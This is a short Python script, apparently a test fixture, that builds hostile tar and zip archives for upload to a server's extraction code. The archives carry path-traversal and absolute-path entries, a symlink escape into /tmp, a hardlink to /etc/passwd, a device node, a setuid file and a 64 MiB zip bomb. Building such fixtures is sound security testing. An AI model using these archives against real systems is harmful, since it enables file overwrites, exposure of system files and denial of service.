# Builds the hostile archives; to be run by the client that uploads them.
import io
import tarfile
import zipfile

with tarfile.open("evil.tar.gz", "w:gz") as tar:

    def add(name, data=b"x", **attributes):
        member = tarfile.TarInfo(name)
        member.size = len(data)
        for key, value in attributes.items():
            setattr(member, key, value)
        tar.addfile(member, io.BytesIO(data))

    add("ok.txt")
    add("../slip.txt")
    add("/tmp/abs-slip.txt")
    add("l", b"", type=tarfile.SYMTYPE, linkname="../../../../../tmp")
    add("l/through.txt")
    add("h", b"", type=tarfile.LNKTYPE, linkname="../../../../etc/passwd")
    add("dev", b"", type=tarfile.CHRTYPE, devmajor=1, devminor=3)
    add("suid", b"#!", mode=0o4755)

with zipfile.ZipFile("evil.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("ok.txt", "x")
    archive.writestr("../slip.txt", "x")
    archive.writestr("a\\..\\..\\w.txt", "x")
    archive.writestr("bomb.bin", b"\0" * (64 << 20))
print("BUILT evil.tar.gz evil.zip")
